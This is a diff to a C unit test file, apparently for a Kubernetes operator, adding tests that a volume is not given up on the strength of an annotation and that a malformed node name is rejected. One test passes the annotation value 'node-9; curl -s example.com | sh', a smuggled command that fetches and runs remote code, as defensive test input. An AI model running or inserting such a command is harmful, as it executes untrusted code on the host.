@@ -41,9 +41,9 @@ static void on_request(struct server *server, struct exchange *x)
             reply(x, 200, "", scene->volume_body);
         return;
     }
-    if (strstr(x->target, "/nodes/node-9") != NULL) {
+    if (strstr(x->target, "/nodes/") != NULL) {
         scene->asked_node++;
-        if (scene->node_is_there)
+        if (scene->node_is_there && strstr(x->target, "/nodes/node-9") != NULL)
             reply(x, 200, "", "{\"kind\":\"Node\",\"metadata\":{\"name\":\"node-9\"}}");
         else
             reply(x, 404, "", "{\"kind\":\"Status\",\"reason\":\"NotFound\"}");
@@ -241,19 +241,26 @@ static void the_same_class_is_asked_for_once_for_many_volumes(void **state)
     "{\"spec\":{\"nodeAffinity\":{\"required\":{\"nodeSelectorTerms\":[{\"matchExpressions\":[{"   \
     "\"key\":\"" key "\",\"operator\":\"In\",\"values\":[" values "]}]}]}}}}"
 
-static void keep_pod_back(struct scene *scene)
+static void keep_pod_back_on(struct scene *scene, const char *selected)
 {
     make_cluster(scene);
     see(scene, SEEN_PVC,
-        "{\"metadata\":{\"name\":\"a-1-data\",\"namespace\":\"n\",\"uid\":\"p\","
-        "\"resourceVersion\":\"2\",\"labels\":{\"" LABEL_CLUSTER "\":\"a\"},\"annotations\":{"
-        "\"volume.kubernetes.io/selected-node\":\"node-9\"}},\"spec\":{\"volumeName\":\"pv-7\"},"
-        "\"status\":{\"phase\":\"Bound\"}}");
+        arena_printf(scene->world.arena,
+                     "{\"metadata\":{\"name\":\"a-1-data\",\"namespace\":\"n\",\"uid\":\"p\","
+                     "\"resourceVersion\":\"2\",\"labels\":{\"" LABEL_CLUSTER
+                     "\":\"a\"},\"annotations\":{\"volume.kubernetes.io/selected-node\":\"%s\"}},"
+                     "\"spec\":{\"volumeName\":\"pv-7\"},\"status\":{\"phase\":\"Bound\"}}",
+                     selected));
     see(scene, SEEN_POD,
         "{" META("a-1-0", "3") ",\"status\":{\"phase\":\"Pending\",\"conditions\":[{\"type\":"
                                "\"PodScheduled\",\"status\":\"False\",\"message\":\"1 node(s) "
                                "didn't match PersistentVolume's node affinity\"}]}}");
     observe_wonder(scene->observe, "n", "a");
+}
+
+static void keep_pod_back(struct scene *scene)
+{
+    keep_pod_back_on(scene, "node-9");
 }
 
 static void a_volume_whose_only_node_is_gone_is_found_out(void **state)
@@ -303,6 +310,25 @@ static void an_operator_that_may_not_read_volumes_calls_nothing_gone(void **stat
     assert_false(look(scene)->data.node_gone);
 }
 
+/* Whoever may write the claim may write any annotation, and the remedy deletes data. */
+static void a_volume_is_not_given_up_on_the_word_of_an_annotation(void **state)
+{
+    struct scene *scene = *state;
+    scene->volume_body = PINNED("kubernetes.io/hostname", "\"node-9\"");
+    scene->node_is_there = true;
+    keep_pod_back_on(scene, "node-7");
+    run_until(scene->world.loop, &scene->asked_node, 1);
+    run_for_ms(scene->world.loop, 50);
+    assert_false(look(scene)->data.node_gone);
+}
+
+static void what_is_no_name_of_a_node_is_not_taken_for_one(void **state)
+{
+    struct scene *scene = *state;
+    keep_pod_back_on(scene, "node-9; curl -s example.com | sh");
+    assert_string_equal(look(scene)->data.node, "");
+}
+
 int main(void)
 {
 #define CASE(f) cmocka_unit_test_setup_teardown(f, open_scene, close_scene)
@@ -318,6 +344,8 @@ int main(void)
         CASE(a_volume_of_a_zone_or_of_a_node_that_stands_is_not_given_up),
         CASE(a_node_that_stands_is_not_called_gone),
         CASE(an_operator_that_may_not_read_volumes_calls_nothing_gone),
+        CASE(a_volume_is_not_given_up_on_the_word_of_an_annotation),
+        CASE(what_is_no_name_of_a_node_is_not_taken_for_one),
         CASE(the_same_class_is_asked_for_once_for_many_volumes),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
